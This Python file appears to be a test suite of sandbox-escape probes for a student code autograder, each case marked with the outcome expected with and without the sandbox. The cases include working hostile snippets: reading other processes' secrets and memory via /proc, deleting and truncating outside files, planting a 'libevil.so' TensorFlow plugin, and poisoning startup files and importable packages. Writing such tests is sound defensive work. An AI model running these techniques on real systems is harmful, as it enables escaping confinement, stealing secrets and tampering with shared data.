# Reading and changing what lies outside.
import os

# === delete_outside: delete the file of another student
# undefended: owned; sandbox: error FileNotFoundError
os.unlink(MY_FILE)
print("OWNED")

# === hard_link_out: a second name for a file outside
# undefended: owned; sandbox: error FileNotFoundError
name = os.path.join(os.path.dirname(CANARY_FILE), "second-name")
os.link(MY_FILE, name)
print("OWNED", open(name).read())
os.unlink(name)

# === inherited_descriptors: a file that the grader left open
# undefended: owned; sandbox: harmless
for number in range(3, 256):
    try:
        text = os.pread(number, 200, 0)
    except OSError:
        continue
    if b"CANARY" in text:
        print("OWNED", text)

# === make_world_writable: open a folder for others
# undefended: owned; sandbox: error FileNotFoundError
os.chmod(MY_FILE, 0o777)
print("OWNED")

# === plant_tensorflow_plugin: a library where TensorFlow looks for plug-ins when anybody imports it
# undefended: owned; sandbox: error OSError
import shutil, sysconfig

library = next(
    path
    for path in (
        "/lib/x86_64-linux-gnu/libm.so.6",
        "/lib/aarch64-linux-gnu/libm.so.6",
        "/lib64/libm.so.6",
        "/usr/lib/libm.so.6",
    )
    if os.path.exists(path)
)
packages = OUTSIDE if os.path.exists(OUTSIDE) else sysconfig.get_paths()["platlib"]
os.makedirs(packages + "/tensorflow-plugins", exist_ok=True)
shutil.copy(library, packages + "/tensorflow-plugins/libevil.so")
print("OWNED")

# === poison_startup: leave a start-up file for the next kernel
# undefended: owned; sandbox: harmless
folder = os.path.expanduser("~/.ipython/profile_default/startup")
os.makedirs(folder, exist_ok=True)
with open(folder + "/00.py", "w") as file:
    file.write("poisoned = True")
if os.path.expanduser("~").startswith(OUTSIDE):
    print("OWNED")

# === poison_tmp: leave a file in /tmp for the next student's code to find
# undefended: owned; sandbox: harmless
import glob, tempfile

with open(os.path.join(SHARED_TMP, "autograde-hostile-note"), "w") as file:
    file.write("a message for the next sandbox")
if os.path.exists(SHARED_TMP + "/made-by-the-tests"):
    print("OWNED")

# === read_command_lines: /proc shows every process's arguments, and one holds a secret
# undefended: owned; sandbox: harmless
for pid in filter(str.isdigit, os.listdir("/proc")):
    try:
        text = open(f"/proc/{pid}/cmdline").read()
    except OSError:
        continue
    if "victim" in text and int(pid) != os.getpid():
        print("OWNED", text)

# === read_environment: the grader's environment holds a secret
# undefended: owned; sandbox: harmless
if SECRET_NAME in os.environ:
    print("OWNED", os.environ[SECRET_NAME])

# === read_file_outside: a solution lies in a folder everyone may read
# undefended: owned; sandbox: error FileNotFoundError
print("OWNED", open(CANARY_FILE).read())

# === read_parent_environment: /proc shows the environment a parent process was started with
# undefended: owned; sandbox: harmless
pid = os.getppid()
while pid > 0:
    try:
        text = open(f"/proc/{pid}/environ").read()
        pid = int(open(f"/proc/{pid}/stat").read().rpartition(") ")[2].split()[1])
    except OSError:
        break
    if SECRET_NAME in text:
        print("OWNED", text)

# === read_parent_memory: another process of the same user can be read through /proc/PID/mem
# undefended: owned; sandbox: harmless
pid = VICTIM or os.getppid()
for process in {pid, os.getppid(), 1}:
    try:
        with open(f"/proc/{process}/maps") as maps, open(f"/proc/{process}/mem", "rb") as memory:
            memory.seek(int(maps.readline().split("-")[0], 16))
            print("OWNED", process, memory.read(4))
    except OSError:
        continue

# === read_shared_memory: another program's file in /dev/shm
# undefended: owned; sandbox: error FileNotFoundError
print("OWNED", open(SHARED_FILE).read())

# === symlink_out: a link in the working folder that leads out of it
# undefended: owned; sandbox: error FileNotFoundError
import tempfile

link = tempfile.mktemp()
os.symlink(CANARY_FILE, link)
print("OWNED", open(link).read())

# === tamper_with_packages: change a package that later submissions import
# undefended: owned; sandbox: error OSError
import site, sys

place = os.path.dirname(MY_FILE) if os.path.exists(MY_FILE) else os.path.dirname(os.__file__)
with open(place + "/poison.py", "w") as file:
    file.write("print('poisoned')")
sys.path.insert(0, place)
import poison

print("OWNED")

# === through_proc_root: /proc/PID/root is a door to the file system another process sees
# undefended: owned; sandbox: harmless
for pid in (VICTIM, os.getppid(), 1):
    for door in ("root", "cwd"):
        try:
            print("OWNED", open(f"/proc/{pid}/{door}/{CANARY_FILE.lstrip('/')}").read())
        except OSError:
            continue

# === truncate_outside: empty a file that belongs to the course
# undefended: owned; sandbox: error FileNotFoundError
os.truncate(MY_FILE, 0)
print("OWNED")

# === walk_the_disk: look for anything that is called like a gradebook
# undefended: owned; sandbox: harmless
for place in ("/home", "/srv", "/var", "/opt", "/mnt", "/media", os.path.dirname(CANARY_FILE)):
    for folder, _, files in os.walk(place):
        for name in {"gradebook.db"} & set(files):
            with open(os.path.join(folder, name), "rb") as file:
                if b"CANARY" in file.read(100):
                    print("OWNED", folder)

# === write_outside: leave a file where everyone may write
# undefended: owned; sandbox: error FileNotFoundError
with open(OUTSIDE + "/left-behind", "w") as file:
    file.write("x")
print("OWNED")
